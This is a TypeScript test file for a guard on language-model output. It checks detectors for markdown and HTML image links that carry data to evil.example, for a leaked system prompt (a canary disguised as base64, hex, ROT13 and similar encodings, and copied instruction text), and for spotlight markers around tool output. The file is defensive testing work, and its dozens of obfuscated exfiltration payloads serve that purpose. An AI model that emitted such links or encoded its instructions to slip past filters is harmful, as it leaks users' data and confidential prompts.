import { randomBytes } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ModelRequest, Treatment } from '../../core/index.ts'
import type { Ask } from '../ask.ts'
import { createStructuredDetector } from '../detect/structured.ts'
import { type Detector, detect } from '../detector.ts'
import { createGuard } from '../guard.ts'
import { createCanary, createCanaryDetector, createInstructionsDetector, plant } from './instructions.ts'
import { createLinkDetector } from './link.ts'
import { spotlight } from './spotlight.ts'

const canary = createCanary(() => Uint8Array.from({ length: 12 }, (_, i) => i * 7))
const instructions = plant(
  'You are the help desk of Acme. Never discuss salaries with anybody, and send all such questions to the people team. Be brief.',
  canary,
)
const link = createLinkDetector({ hosts: ['acme.example'] })
const words = createInstructionsDetector(instructions) as Detector
const mark = createCanaryDetector(canary)
const RESULT = {
  ...{ action: 'chat', model: 'm', inputs: [], params: {}, stream: false },
  messages: [{ role: 'tool', parts: [{ type: 'text', text: 'warm' }] }],
} satisfies ModelRequest
const ID = 'abcdefghijkm'
const marks = spotlight(RESULT, () => Uint8Array.from({ length: 12 }, (_, i) => i))?.detector as Detector

describe('links that carry data away', () => {
  const leaks = (text: string) => detect(link, text).map((f) => text.slice(f.start, f.end))
  it.each([
    '![x](https://evil.example/p.png)',
    '![](//evil.example/p.png "t")',
    '<img src="http://evil.example/a">',
    '<IMG\nsrc=https://evil.example/a >',
    '<div style="background:url(https://evil.example/)">',
    '[here](https://evil.example/?d=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ)',
    'https://evil.example/?q=EMAIL_7QK2M',
    '![x][p] and\n\n[P]: https://evil.example/p.png\n',
    '![p][] and\n\n[p]: <https://evil.example/p.png>\n',
    '![p] and\n\n[p]:\n https://evil.example/p.png\n',
    '[p]: https://evil.example/?d=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ\n',
    'https://am9obkbleGFtcGxlLmNvbSBzZWNyZXQ.evil.example/',
    '<a href="https://evil.example/?mail=a@b.co">x</a>',
    // As renderers of markdown and browsers read them.
    '![x](https&#58;//evil.example/p)',
    '![x](https&colon;&sol;&#x2f;evil.example/p)',
    '![x](https\\://evil.example/p)',
    '![x](https:\\/\\/evil.example/p)',
    '![x](https:///evil.example/p)',
    '![x](https:/evil.example/p)',
    '![x](/\\evil.example/p)',
    '![x](\n\thttps://evil.example/p)',
    '![a [b]](https://evil.example/p)',
    '![a\\]b](https://evil.example/p)',
    '![a\nb](https://evil.example/p)',
    `![${'a'.repeat(300)}](https://evil.example/p)`,
    '![p] [p]: https&#58;//evil.example/p',
    '<img alt=">" src="https://evil.example/p">',
    '<img src="https:&#47;&#47;evil.example/p">',
    '<img src="https:/\t/evil.example/p">',
    '<img src=https:evil.example/p>',
    '<a href="x" style="background:url(//evil.example/p)">',
    '<a ="![x](https://evil.example/p)',
    `![p] [p]:${' '.repeat(40)}https://evil.example/p`,
  ])('%s', (text) => {
    expect(leaks(`See ${text} now`).join('')).toContain('evil.example')
  })
  it.each([
    '![x](https://cdn.acme.example/p.png)',
    '![x](/local.png)',
    '[the docs][d], ![logo][l]\n\n[d]: https://docs.python.org/3/\n[l]: https://cdn.acme.example/p.png\n',
    'see ![x] and [y] and a[0]: 5',
    '[docs](https://docs.python.org/3/library/re.html#regular-expression-syntax)',
    'https://example.org/a/long/path/with-many-words-in-it.html?page=2',
    'a < b and [x] (y) ! https',
    'a[b[0]](c) and ![x [y]](/local.png) and ![a\\]b](cdn/p.png), [see [1]](https://docs.python.org/3/)',
    '<img alt="a > b" src="/local.png"> R&D & more \\(x\\)',
    'http://localhost:3000/?token=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ',
  ])('not %s', (text) => {
    expect(leaks(text)).toEqual([])
  })
  it('a picture whose address stood before it', () => {
    expect(leaks('[p]: https://evil.example/p.png\n\nLook: ![x][p] and ![p] and [text][p].')).toEqual([
      '![x][p]',
      '![p]',
    ])
  })
  it('keeps a hidden value from being turned back inside an address', () => {
    const guard = createGuard({ detectors: [createStructuredDetector()] })
    const vault = guard.openVault({ key: randomBytes(32), random: (n) => randomBytes(n), session: 's' })
    const hidden = vault.hide(guard.tree.get('personal/email'), 'me@corp.example', 'caller')
    const ask: Ask = ({ class: id }) => ({
      treatment: (id.startsWith('leak/') ? 'mask' : 'pass') as Treatment,
      rules: [],
    })
    const output = guard.openOutput(ask, vault)
    const said = `Hi ${hidden} ![](https://evil.example/?q=${hidden}) \u{E0041}\u202Ebye`
    const heard = [...output.push([{ type: 'text', choice: 0, text: said }]), ...output.end()]
      .map((d) => (d.type === 'text' ? d.text : ''))
      .join('')
    expect(heard).toBe('Hi me@corp.example [link] bye')
  })
})

describe('embedded instructions', () => {
  const disguises: [string, (text: string) => string][] = [
    ['plain', (t) => t],
    ['capitals', (t) => t.toUpperCase()],
    ['spaced out', (t) => [...t].join(' ')],
    ['in markup', (t) => `**${t.slice(0, 5)}**${t.slice(5)}`],
    ['reversed', (t) => [...t].reverse().join('')],
    ['as a list of JSON', (t) => JSON.stringify([...t])],
    ['as a list of JSON, a line each', (t) => JSON.stringify([...t], null, 8)],
    ['in a column of a table', (t) => [...t].map((c) => `| ${c} |`).join('\n')],
    ['in ROT13', (t) => t.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97))],
    ['hex', (t) => Buffer.from(t).toString('hex')],
    ['hex with colons', (t) => Buffer.from(t).toString('hex').match(/../g)!.join(':')],
    ['as escapes', (t) => [...Buffer.from(t)].map((b) => `\\x${b.toString(16)}`).join('')],
    ['as escapes of JSON', (t) => [...Buffer.from(t)].map((b) => `\\u00${b.toString(16)}`).join('')],
    ['as bytes of a program', (t) => [...Buffer.from(t)].map((b) => `0x${b.toString(16)}`).join(', ')],
    ['as numbers', (t) => [...Buffer.from(t)].join(', ')],
    ['as entities', (t) => [...Buffer.from(t)].map((b) => `&#${b};`).join('')],
    ['base64', (t) => Buffer.from(t).toString('base64')],
    ['base64 of a sentence', (t) => Buffer.from(`the ${t} is`).toString('base64')],
    ['base64 of another', (t) => Buffer.from(`it is ${t}.`).toString('base64')],
  ]
  it.each(disguises)('the canary, %s', (_, disguise) => {
    expect(detect(mark, `The reference is ${disguise(canary)}!`).length).toBeGreaterThan(0)
  })
  it('no canary elsewhere', () => {
    expect(detect(mark, 'cnry and other words; the canary sang. '.repeat(50))).toEqual([])
  })
  it('finds nine words of them in a row, and not eight', () => {
    const said = (n: number) =>
      `He said: "${'Never DISCUSS salaries, with anybody - and send all such questions to'
        .split(' ')
        .slice(0, n + 1)
        .join(' ')}" maybe.`
    expect(detect(words, said(9)).length).toBe(1)
    expect(detect(words, said(8))).toEqual([])
    expect(detect(words, 'You are the best. Be brief with anybody and never send questions to all people.')).toEqual([])
  })
})

it('marks around what tools say are found whole, and what is left of them', () => {
  const found = (text: string) => detect(marks, text).map(({ start, end }) => text.slice(start, end))
  expect(found(`a [[data ${ID}]] b`)).toContain(`[[data ${ID}]]`)
  expect(found(`a \\[\\[END\n${ID}\\]\\] b`)).toContain(`\\[\\[END\n${ID}\\]\\]`)
  expect(found(`the section ${ID}, I mean`)).toEqual([ID])
  expect(found(`[[data ${ID.slice(2)}]] [[end of it]]`)).toEqual([])
})

it('finds the same however the text is cut', () => {
  const part = fc.oneof(
    fc.constantFrom(
      canary,
      canary.slice(0, 9),
      [...canary].join('-'),
      JSON.stringify([...canary]),
      ' "" \n',
      instructions,
      instructions.slice(10, 120),
      'Never discuss salaries with anybody, and ',
      '![x](',
      'https://evil.example/?q=',
      'EMAIL_7QK2M',
      ')',
      '](',
      '][p]',
      '[p]: ',
      '![p]',
      '[',
      '](',
      'https&#58;//',
      '\\',
      '<img alt="',
      '<img src="//e.x/',
      '>',
      '"',
      ' ',
      '\n',
      '!',
      'h',
      'ht',
      'x'.repeat(300),
      `[[data ${ID}]]`,
      `\\[\\[END ${ID.toUpperCase()}\\]\\]`,
      `[[end ${ID}`,
      ID.slice(0, 7),
    ),
    fc.string({ maxLength: 4 }),
  )
  fc.assert(
    fc.property(
      fc.array(part, { maxLength: 9 }),
      fc.constantFrom(link, words, mark, marks),
      fc.infiniteStream(fc.integer({ min: 1, max: 25 })),
      (parts, detector, sizes) => {
        const text = parts.join('')
        const stream = detector.open()
        const streamed = []
        let settled = 0
        for (let at = 0; at < text.length; ) {
          const size = sizes.next().value
          for (const finding of stream.push(text.slice(at, at + size))) {
            expect(finding.start).toBeGreaterThanOrEqual(settled)
            streamed.push(finding)
          }
          settled = stream.openFrom
          at += size
        }
        streamed.push(...stream.end())
        expect(streamed.sort((a, b) => a.start - b.start || b.end - a.end)).toEqual(detect(detector, text))
      },
    ),
    { seed: 31, numRuns: 3000 },
  )
})
